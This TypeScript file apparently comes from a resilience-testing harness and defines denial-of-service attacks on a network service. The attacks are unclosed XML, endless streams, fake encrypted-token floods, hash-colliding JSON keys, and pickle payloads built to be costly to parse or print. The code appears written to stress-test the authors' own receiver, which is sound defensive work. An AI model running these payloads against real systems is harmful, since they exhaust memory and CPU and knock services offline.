/* Attacks by content: raw and classic values that are long, endless, or dear to look at. */
import { write, type Attacker } from './attacker';

const MEBIBYTE = 1024 * 1024;

/** XML on every connection that opens elements with long names and closes none. */
export async function openNames(attacker: Attacker): Promise<void> {
  const names = Buffer.from(`<${'a'.repeat(999)}>`.repeat(125));
  await holdContent(attacker, names);
}

/** A classic text on every connection that does not end. */
export async function leaveTextOpen(attacker: Attacker): Promise<void> {
  const packet = Buffer.concat([Buffer.from('0800fff0', 'hex'), Buffer.alloc(0xfff0, 'x')]);
  await holdContent(attacker, Buffer.concat([packet, Buffer.from('00fff0', 'hex'), packet.subarray(4)]));
}

/** Texts of no byte, which need a file each. */
export async function sendEmptyTexts(attacker: Attacker): Promise<void> {
  const texts = Buffer.from('0c000000'.repeat(64), 'hex');
  await attacker.again(() =>
    attacker.forEach(8, async (i) => {
      const socket = await attacker.connect(attacker.addressOf(i));
      await write(socket, texts);
      let answered = 0;
      for await (const answer of socket) if ((answered += (answer as Buffer).length) >= 2 * 64) break;
      socket.destroy();
    }),
  );
}

/** Values of every kind that go on for long without an end. */
export async function neverEnd(attacker: Attacker): Promise<void> {
  const values = [
    ['\u0080\u0004\u008e\u00ff\u00ff\u00ff\u00ff\u00ff\u00ff\u00ff\u000f', 'x'],
    ['["', 'a'],
    ['[1', ',1'],
    ['', '['],
    ['<!--', '-'],
    ['<a ', 'b="c" '],
    ['<a>', '&amp;'],
    ['', ' '],
    ['\u00ff\u00fe', '\u0000'],
    ['\u0080\u0004]', '\u0094'],
    ['gAAAAABl', 'A'],
  ].map(([start = '', rest = '']) => ({
    start: Buffer.from(start, 'latin1'),
    rest: Buffer.alloc(MEBIBYTE, rest, 'latin1'),
  }));
  await attacker.again((round) =>
    attacker.forEach(values.length, async (i) => {
      const { start, rest } = values[i] ?? { start: Buffer.alloc(0), rest: Buffer.alloc(0) };
      const socket = await attacker.connect(attacker.addressOf(round + i));
      await write(socket.resume(), start);
      for (let k = 0; k < 4 && !socket.destroyed; k++) await write(socket, rest);
      socket.resetAndDestroy();
    }),
  );
}

/** Sends bytes that look like one encrypted token, from senders without the key, until no more are taken. */
export async function fillWithTokens(attacker: Attacker): Promise<void> {
  const text = Buffer.alloc(MEBIBYTE, 'A');
  await attacker.keep(6 * attacker.addresses.length, async (from) => {
    const socket = await attacker.connect(from);
    socket.resume().write('gAAAAABl');
    // Stored bytes stay as long as the connection does, so it stops short of the limit of a connection.
    for (let i = 0; i < 15 && !socket.destroyed; i++) await write(socket, text);
    return socket;
  });
}

/** Dictionaries whose keys have one hash, and pickles that ask for much, for a receiver that prints them. */
export async function sendCostlyValues(attacker: Attacker): Promise<void> {
  const values = [collidingIntegers(2_000), collidingTexts(20_000), setOfTwins(40), emptySets(500_000)];
  await attacker.again((round) =>
    attacker.forEach(values.length, async (i) => {
      const socket = await attacker.connect(attacker.addressOf(round + i));
      socket.end(values[i] ?? Buffer.alloc(0));
      await new Promise((resolve) => socket.resume().once('end', resolve).once('close', resolve));
      socket.destroy();
    }),
  );
}

/** Sends the same to every connection and keeps it open. */
async function holdContent(attacker: Attacker, content: Buffer): Promise<void> {
  await attacker.keep(attacker.connections, async (from) => {
    const socket = await attacker.connect(from);
    await write(socket.resume(), content);
    return socket;
  });
}

/** A pickle of integers that differ only in bits that V8 does not hash. */
function collidingIntegers(count: number): Buffer {
  const entries = Array.from({ length: count }, (_, i) => {
    const entry = Buffer.alloc(5 + 2051 + 1);
    entry.writeUInt8(0x8b, 0);
    entry.writeUInt32LE(2051, 1);
    entry.writeUInt32LE(i + 1, 5 + 2046);
    entry.writeUInt8(1, 5 + 2050);
    entry.write('N', 5 + 2051);
    return entry;
  });
  return Buffer.concat([Buffer.from('\u0080\u0004}(', 'latin1'), ...entries, Buffer.from('u.')]);
}

/** JSON with keys of digits, which Node.js hashes by their value. */
function collidingTexts(count: number): Buffer {
  const keys = Array.from({ length: count }, (_, i) => `"${String((i * 65_536) % 4_294_967_295)}":0`);
  return Buffer.from(`{${keys.join(',')}}`);
}

/** A pickle of a few hundred bytes: a set of two equal tuples, each of twins of twins. */
function setOfTwins(levels: number): Buffer {
  const tuple = (base: number): string => {
    const level = (i: number): string => `0h${byte(base + i)}h${byte(base + i)}\u0086q${byte(base + i + 1)}`;
    return `K\u0001q${byte(base)}${Array.from({ length: levels }, (_, i) => level(i)).join('')}`;
  };
  return Buffer.from(`\u0080\u0004\u008f(${tuple(0)}${tuple(100)}\u0090.`, 'latin1');
}

/** A pickle of which each byte is a set. */
function emptySets(count: number): Buffer {
  return Buffer.concat([
    Buffer.from('\u0080\u0004](', 'latin1'),
    Buffer.alloc(count, 0x8f),
    Buffer.from('e.'),
  ]);
}

function byte(value: number): string {
  return String.fromCharCode(value);
}
